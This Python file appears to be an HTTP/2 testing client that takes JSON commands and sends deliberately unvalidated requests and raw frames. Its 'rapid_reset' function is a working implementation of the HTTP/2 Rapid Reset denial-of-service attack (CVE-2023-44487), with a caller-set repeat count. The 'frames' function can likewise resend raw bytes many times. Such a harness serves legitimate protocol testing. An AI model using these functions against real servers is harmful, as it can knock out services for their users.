"""An HTTP/2 client that sends what it is told to, valid or not: one JSON command a line, one JSON answer a line.

Text stands for bytes, one character each (latin-1).
"""
import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

stream = None
connection = None
seen = {}
ended = None


def open_(host, sni=None, window=None):
    global stream, connection, seen, ended
    seen, ended = {}, None
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection((host, 443), timeout=10)
    stream = context.wrap_socket(plain, server_hostname=sni or host)
    config = h2.config.H2Configuration(
        client_side=True,
        header_encoding="latin-1",
        validate_outbound_headers=False,
        normalize_outbound_headers=False,
        validate_inbound_headers=True,
    )
    connection = h2.connection.H2Connection(config)
    connection.initiate_connection()
    if window is not None:
        connection.update_settings({4: window})
    flush()
    return {"alpn": stream.selected_alpn_protocol()}


def flush():
    data = connection.data_to_send()
    if data:
        stream.sendall(data)


def request(headers, body=None, trailers=None, end=True):
    """Sends a request; its number is the answer."""
    number = connection.get_next_available_stream_id()
    more = body is not None or trailers is not None
    connection.send_headers(number, [tuple(pair) for pair in headers], end_stream=end and not more)
    if body is not None:
        connection.send_data(number, body.encode("latin-1"), end_stream=end and trailers is None)
    if trailers is not None:
        connection.send_headers(number, [tuple(pair) for pair in trailers], end_stream=True)
    seen[number] = {"status": None, "headers": [], "data": "", "trailers": None, "end": None, "events": 0}
    flush()
    return {"stream": number}


def note(event):
    global ended
    at = seen.get(getattr(event, "stream_id", None))
    if isinstance(event, h2.events.ConnectionTerminated):
        ended = f"goaway {int(event.error_code)}"
    elif at is None:
        return
    elif isinstance(event, h2.events.ResponseReceived):
        at["headers"] = [list(pair) for pair in event.headers]
        at["status"] = int(dict(event.headers)[":status"])
    elif isinstance(event, h2.events.DataReceived):
        at["data"] += event.data.decode("latin-1")
        at["events"] += 1
        connection.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
    elif isinstance(event, h2.events.TrailersReceived):
        at["trailers"] = [list(pair) for pair in event.headers]
    elif isinstance(event, h2.events.StreamEnded):
        at["end"] = "whole"
    elif isinstance(event, h2.events.StreamReset):
        at["end"] = at["end"] or f"reset {int(event.error_code)}"


def read(streams=None, wait=5, events=None):
    """Reads until these streams are over, or one has had `events` pieces of data, or `wait` seconds passed."""
    global ended
    until = time.monotonic() + wait
    wanted = streams if streams is not None else list(seen)
    while time.monotonic() < until and ended is None:
        if wanted and all(seen[number]["end"] for number in wanted):
            break
        if events is not None and any(seen[number]["events"] >= events for number in wanted):
            break
        stream.settimeout(max(0.01, until - time.monotonic()))
        try:
            data = stream.recv(65536)
        except (TimeoutError, socket.timeout):
            break
        except OSError as error:
            ended = f"reset: {error}"
            break
        if not data:
            ended = "closed"
            break
        try:
            for event in connection.receive_data(data):
                note(event)
        except h2.exceptions.ProtocolError as error:
            ended = f"the peer broke the protocol: {error}"
        try:
            flush()
        except OSError as error:
            ended = ended or f"reset: {error}"
    return {"streams": {str(number): seen[number] for number in wanted}, "ended": ended}


def reset(number):
    connection.reset_stream(number, 8)
    flush()
    return {}


def frames(data, times=1):
    """Sends raw frames."""
    raw = data.encode("latin-1")
    sent = 0
    try:
        for _ in range(times):
            stream.sendall(raw)
            sent += 1
    except OSError as error:
        return {"sent": sent, "broken": str(error)}
    return {"sent": sent}


def rapid_reset(headers, times):
    """Opens streams and cancels each at once (CVE-2023-44487)."""
    sent = 0
    try:
        for _ in range(times):
            number = connection.get_next_available_stream_id()
            connection.send_headers(number, [tuple(pair) for pair in headers], end_stream=True)
            connection.reset_stream(number, 8)
            flush()
            sent += 1
    except (OSError, h2.exceptions.H2Error) as error:
        return {"sent": sent, "broken": str(error)}
    return {"sent": sent}


def close():
    stream.close()
    return {}


VERBS = {
    "open": open_, "request": request, "read": read, "reset": reset,
    "frames": frames, "rapid_reset": rapid_reset, "close": close,
}
for line in sys.stdin:
    command = json.loads(line)
    try:
        answer = VERBS[command.pop("do")](**command)
    except Exception as error:  # noqa: BLE001 - every failure is an answer
        answer = {"error": f"{type(error).__name__}: {error}"}
    print(json.dumps(answer), flush=True)
